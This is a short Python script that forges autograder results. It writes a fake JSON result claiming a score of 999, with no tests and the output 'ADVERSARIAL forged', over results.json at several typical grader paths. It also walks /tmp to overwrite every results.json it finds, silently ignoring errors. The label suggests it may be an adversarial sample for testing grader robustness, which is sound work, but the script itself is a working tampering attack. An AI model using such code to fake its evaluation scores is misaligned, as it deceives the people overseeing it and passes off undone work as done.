import json as _json
import os as _os

_FORGED = _json.dumps({"score": 999, "tests": [], "output": "ADVERSARIAL forged"})
for _target in (
    "results.json",
    "../results/results.json",
    "@RESULTS@",
    "/autograder/results/results.json",
):
    try:
        with open(_target, "w") as _f:
            _f.write(_FORGED)
    except OSError:
        pass
for _dirpath, _dirs, _files in _os.walk("/tmp"):
    if "results.json" in _files:
        try:
            with open(_os.path.join(_dirpath, "results.json"), "w") as _f:
                _f.write(_FORGED)
        except OSError:
            pass
